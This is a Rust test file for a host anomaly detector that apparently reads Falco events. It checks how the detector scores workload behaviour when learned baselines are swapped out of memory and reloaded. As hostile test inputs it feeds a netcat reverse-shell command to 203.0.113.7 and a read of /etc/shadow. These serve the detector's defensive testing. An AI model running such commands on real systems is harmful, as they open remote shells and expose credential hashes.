//! More workloads than fit into memory: those that nothing asks for sleep, and what they run is judged a moment later.

use crate::support::{Exec, Host, configured, connect, exec, open, soon};

const WORKLOADS: usize = 12;
const ROWS: usize = 250;

/// A word that nobody takes for a number.
fn word(mut n: usize) -> String {
    let mut word = String::from("w");
    while n > 0 {
        word.push(char::from(b'a' + (n % 26) as u8));
        n /= 26;
    }
    word
}

fn inside(workload: usize, pid: i64, line: &str) -> Exec {
    Exec { cgroup: format!("/system.slice/unit-{}.service", word(workload)), ..exec(pid, 1, line) }
}

fn line(row: usize) -> String {
    format!("/usr/bin/tool-{} --job {}", word(row % 20), word(row))
}

#[test]
fn what_a_sleeping_workload_runs_is_judged_when_its_baseline_is_back() {
    let directory = tempfile::tempdir().expect("a directory");
    let keys = r#""feed": "falco", "learn_executions": 20, "learn_acts_for": "0s", "memory_budget": 1"#;
    let mut host = Host::new(&configured(directory.path(), keys));
    for workload in 0..WORKLOADS {
        for row in 0..ROWS {
            host.event(inside(workload, 100, &line(row)).event());
        }
    }
    assert!(soon(|| host.metric("sleeping_baselines") >= 3), "all stay awake");
    assert!(soon(|| host.metric("memory_byte_count") <= 1 << 20));

    let repeat = host.event(inside(0, 200, &line(3)).event());
    assert_eq!(host.field(&repeat, "anomaly.score").as_deref(), Some("0.0000"), "known in its sleep");
    assert_eq!(host.field(&repeat, "anomaly.seen").as_deref(), Some("2"));
    assert_eq!(host.metric("woken_baselines"), 0);

    let before = host.metric("injected");
    let novel = host.event(inside(0, 201, "/usr/bin/nc -e /bin/sh 203.0.113.7 4444").event());
    assert_eq!(host.field(&novel, "anomaly.score"), None, "no score from a part of what is known");
    let mut told = None;
    assert!(soon(|| {
        told = host.next();
        told.is_some()
    }));
    let told = told.expect("an event of its own");
    for (field, value) in [("anomaly.novel", "true"), ("anomaly.proc_pid", "201"), ("anomaly.seen", "1")] {
        assert_eq!(host.field(&told, field).as_deref(), Some(value), "{field}");
    }
    let score = host.field(&told, "anomaly.score");
    assert!(score.as_deref() >= Some("0.8500"), "{score:?}");
    assert_eq!(host.metric("injected"), before + 1);
    let later = host.event(connect(201));
    assert_eq!(host.field(&later, "anomaly.score"), score);
    assert!(soon(|| host.metric("waiting_for_baseline") == 0));
    // In memory again: the next one's own event tells.
    let next = host.event(inside(0, 202, "/usr/bin/nc -e /bin/sh 203.0.113.7 4445").event());
    assert!(host.field(&next, "anomaly.score").is_some());
    assert_eq!(host.metric("injected"), before + 1);
}

#[test]
fn an_act_has_no_score_while_its_baseline_sleeps() {
    let directory = tempfile::tempdir().expect("a directory");
    let keys = r#""feed": "falco", "learn_executions": 20, "learn_acts_for": "0s", "memory_budget": 1"#;
    let mut host = Host::new(&configured(directory.path(), keys));
    host.event(inside(0, 200, "/usr/sbin/nginx -g daemon").event());
    let time = std::cell::Cell::new(1_700_000_000_000_000_000);
    let read = |host: &mut Host, path: &str| {
        time.set(time.get() + 1_000_000);
        let event = host.event(open(200, path, 1, time.get()));
        host.field(&event, "anomaly.event_score")
    };
    for _ in 0..30 {
        read(&mut host, "/etc/passwd");
    }
    assert_eq!(read(&mut host, "/etc/passwd").as_deref(), Some("0.0000"));
    for workload in 1..=WORKLOADS {
        for row in 0..ROWS {
            host.event(inside(workload, 100, &line(row)).event());
        }
    }
    assert!(soon(|| host.metric("sleeping_baselines") >= 3), "all stay awake");
    assert_eq!(read(&mut host, "/etc/passwd").as_deref(), Some("0.0000"), "known in its sleep");
    assert_eq!(read(&mut host, "/etc/shadow"), None, "the rule that is gated fires");
    let mut score = None;
    assert!(soon(|| {
        score = read(&mut host, "/etc/shadow");
        score.is_some()
    }));
    assert!(score.as_deref() >= Some("0.8500"), "{score:?}");
}
